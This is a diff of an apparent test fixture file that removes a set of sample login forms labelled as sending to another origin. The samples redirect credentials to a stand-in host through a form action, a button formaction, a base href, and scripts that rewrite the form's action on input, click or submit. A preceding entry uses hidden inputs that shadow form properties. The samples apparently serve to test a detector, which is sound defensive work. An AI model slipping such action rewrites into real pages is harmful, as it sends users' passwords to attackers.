@@ -137,19 +137,3 @@ export const TAMPERED: Record<string, string> = {
     `<input type="hidden" name="action" value="http://localhost:ELSEWHERE/session"><input type="hidden" name="submit" value="x"><input type="hidden" name="elements" value="x">${FIELDS}${BUTTON}`,
   ),
 };
-
-/** T18: forms that send to another origin, at once or once they have been filled. */
-export const SENT_ELSEWHERE: Record<string, string> = {
-  action: `<form method="post" action="http://localhost:ELSEWHERE/session">${FIELDS}${BUTTON}</form>`,
-  formaction: form(`${FIELDS}<button formaction="http://localhost:ELSEWHERE/session">Sign in</button>`),
-  'base-address': `<base href="http://localhost:ELSEWHERE/">${form(FIELDS + BUTTON).replace('/session', 'session')}`,
-  'changed-on-input': scripted(
-    `password.addEventListener('input', () => { form.action = 'http://localhost:ELSEWHERE/session' });`,
-  ),
-  'changed-on-click': scripted(
-    `document.querySelector('button').addEventListener('click', () => { form.action = 'http://localhost:ELSEWHERE/session' });`,
-  ),
-  'changed-on-submit': scripted(
-    `form.addEventListener('submit', () => { form.action = 'http://localhost:ELSEWHERE/session' }, true);`,
-  ),
-};
